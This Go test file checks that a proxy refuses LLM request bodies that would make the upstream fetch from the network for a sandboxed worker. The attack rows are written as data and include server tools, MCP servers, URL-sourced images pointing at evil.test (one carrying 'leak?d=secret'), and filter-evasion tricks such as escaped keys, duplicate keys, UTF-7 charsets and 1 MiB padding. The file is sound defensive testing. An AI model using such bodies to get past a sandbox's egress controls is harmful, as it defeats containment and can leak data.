package brokerctl

import (
	"crypto/x509"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// TestUpstreamFetchRequestsRefused: a model-call body can make the upstream reach the
// network for the jail — a server tool (web_fetch, web_search, mcp), MCP servers, an
// image or document given by URL. Each attack row goes over real mTLS to an allowed route
// and must come back 403 body_refused with the upstream never receiving a complete body;
// each control row (client tools, a URL that is only data in the history, inline
// images) must reach the upstream byte for byte. The padded rows put the offending part
// after 1 MiB, so the upstream has most of the body before the scanner sees it: the
// chunk holding it is never passed on, so the upstream never has the body whole.
func TestUpstreamFetchRequestsRefused(t *testing.T) {
	var mu sync.Mutex
	var got []string // complete, well-formed bodies the upstream received
	h := newHarness(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		if err == nil && json.Valid(b) {
			mu.Lock()
			got = append(got, string(b))
			mu.Unlock()
		}
		io.WriteString(w, `{"ok":true}`)
	}), func(o *Options) { o.LLMRoutes = []string{"POST /v1/messages"} })
	cert := h.workerCert("w1")
	c := h.client(&cert)
	pad := `"pad":"` + strings.Repeat("x", 1<<20) + `",`
	rows := []struct {
		name, body string
		ok         bool
	}{
		{"control: function tool", `{"model":"m","tools":[{"type":"function","function":{"name":"f"}}],"messages":[]}`, true},
		{"control: tool without type whose schema has a url", `{"tools":[{"name":"web_fetch","input_schema":{"type":"object","properties":{"url":{"type":"string"}}}}]}`, true},
		{"control: url in tool_use history", `{"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"web_fetch","input":{"url":"https://example.com"}}]}]}`, true},
		{"control: data url image", `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`, true},
		{"control: base64 image source", `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]}`, true},
		{"control: client bash tool", `{"tools":[{"type":"bash_20250124","name":"bash"}]}`, true},
		{"control: padded clean body", `{` + pad + `"tools":[{"type":"custom","name":"x"}]}`, true},
		{"control: prompt as text", `{"model":"m","prompt":"say hi"}`, true},
		{"stored prompt reference", `{"model":"m","prompt":{"id":"pmpt_123","version":"2"},"input":"hi"}`, false},
		{"web_fetch server tool", `{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[]}`, false},
		{"web_search server tool in a form lev does not send", `{"tools":[{"type":"web_search_20250305","name":"web_search","allowed_domains":["evil.test"]}]}`, false},
		{"code execution server tool", `{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, false},
		{"openai mcp tool", `{"tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.test/x"}]}`, false},
		{"escaped tool type", `{"tools":[{"type":"web\u005ffetch_20250910"}]}`, false},
		{"duplicate type key", `{"tools":[{"type":"function","type":"web_search"}]}`, false},
		{"key case", `{"TOOLS":[{"Type":"web_search"}]}`, false},
		{"mcp_servers", `{"mcp_servers":[{"type":"url","url":"https://evil.test/","name":"x"}]}`, false},
		{"web_search_options", `{"web_search_options":{}}`, false},
		{"image source by url", `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.test/leak?d=secret"}}]}]}`, false},
		{"document source by url", `{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"http://evil.test/d.pdf"}}]}]}`, false},
		{"openai image_url object", `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.test/a"}}]}]}`, false},
		{"openai input_image string, upper case", `{"input":[{"role":"user","content":[{"type":"input_image","image_url":"HTTPS://evil.test"}]}]}`, false},
		{"escaped scheme", `{"messages":[{"content":[{"image_url":{"url":"\u0068ttps://evil.test"}}]}]}`, false},
		{"leading space", `{"messages":[{"content":[{"image_url":{"url":"  //evil.test/x"}}]}]}`, false},
		{"second JSON value", `{"a":1}{"tools":[{"type":"web_search"}]}`, false},
		{"not JSON", `tools=web_search`, false},
		{"truncated", `{"tools":[`, false},
		{"padded server tool", `{` + pad + `"tools":[{"type":"web_fetch_20250910"}]}`, false},
		{"padded image url", `{` + pad + `"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.test/"}}]}]}`, false},
	}
	// A charset other than UTF-8 could make the upstream read the bytes differently
	// ("t+AHk-pe" is "type" in UTF-7): refused before anything is sent (415).
	for _, ct := range []string{"application/json; charset=utf-7", "application/json; charset=UTF-16", "application/json; charset=\"cp1252\"", "application/json; charset=utf-8; charset=utf-7"} {
		mu.Lock()
		before := len(got)
		mu.Unlock()
		req, _ := http.NewRequest("POST", h.url+"/llm/v1/messages", strings.NewReader(`{"tools":[{"t+AHk-pe":"web_search"}]}`))
		req.Header.Set("Content-Type", ct)
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		mu.Lock()
		reached := len(got) > before
		mu.Unlock()
		if resp.StatusCode != 415 || reached {
			t.Errorf("Content-Type %s: %d, reached upstream %v", ct, resp.StatusCode, reached)
		}
	}
	for _, r := range rows {
		mu.Lock()
		before := len(got)
		mu.Unlock()
		req, _ := http.NewRequest("POST", h.url+"/llm/v1/messages", strings.NewReader(r.body))
		req.Header.Set("Content-Type", "application/json; charset=UTF-8") // the control for the charset rows
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", r.name, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		mu.Lock()
		reached := len(got) > before
		var last string
		if reached {
			last = got[len(got)-1]
		}
		mu.Unlock()
		if r.ok {
			if resp.StatusCode != 200 || !reached || last != r.body {
				t.Errorf("%s: %d %s, upstream got it intact: %v", r.name, resp.StatusCode, capText(string(b), 200), reached && last == r.body)
			}
			continue
		}
		if resp.StatusCode != 403 || !strings.Contains(string(b), "body_refused") || reached {
			t.Errorf("%s: %d %s, upstream received a complete body: %v", r.name, resp.StatusCode, capText(string(b), 300), reached)
		}
	}
}

// TestUpstreamFetchRequestsRefusedHTTP1: the same streaming refusal with an HTTP/1.1 upstream,
// where the transport sends a known-length body and then only checks for extra bytes:
// the refused body must still never arrive whole, with and without a Content-Length.
func TestUpstreamFetchRequestsRefusedHTTP1(t *testing.T) {
	var mu sync.Mutex
	var got []string
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		if err == nil && json.Valid(b) {
			mu.Lock()
			got = append(got, string(b))
			mu.Unlock()
		}
		io.WriteString(w, `{"ok":true,"proto":"`+r.Proto+`"}`)
	}))
	up.StartTLS()
	t.Cleanup(up.Close)
	roots := x509.NewCertPool()
	roots.AddCert(up.Certificate())
	h := newHarness(t, nil, func(o *Options) {
		o.Upstream, o.UpstreamRoots = up.URL, roots
		o.LLMRoutes = []string{"POST /v1/messages"}
	})
	cert := h.workerCert("w1")
	c := h.client(&cert)
	pad := `"pad":"` + strings.Repeat("x", 1<<20) + `",`
	for _, r := range []struct {
		name, body string
		sized, ok  bool
	}{
		{"control sized", `{` + pad + `"tools":[{"type":"function"}]}`, true, true},
		{"control chunked", `{` + pad + `"tools":[{"type":"function"}]}`, false, true},
		{"server tool sized", `{` + pad + `"tools":[{"type":"web_fetch_20250910"}]}`, true, false},
		{"server tool chunked", `{` + pad + `"tools":[{"type":"web_fetch_20250910"}]}`, false, false},
		{"trailing value sized", `{` + pad + `"a":1}{}`, true, false},
	} {
		mu.Lock()
		before := len(got)
		mu.Unlock()
		var body io.Reader = strings.NewReader(r.body)
		if !r.sized {
			body = io.MultiReader(body) // hides the length: sent chunked
		}
		req, _ := http.NewRequest("POST", h.url+"/llm/v1/messages", body)
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", r.name, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		mu.Lock()
		reached := len(got) > before && got[len(got)-1] == r.body
		mu.Unlock()
		if r.ok != (resp.StatusCode == 200) || r.ok != reached {
			t.Errorf("%s: %d %s, upstream got it whole: %v", r.name, resp.StatusCode, capText(string(b), 200), reached)
		}
		if r.ok && !strings.Contains(string(b), `"proto":"HTTP/1.1"`) {
			t.Errorf("%s: upstream not reached over HTTP/1.1: %s", r.name, b)
		}
	}
}
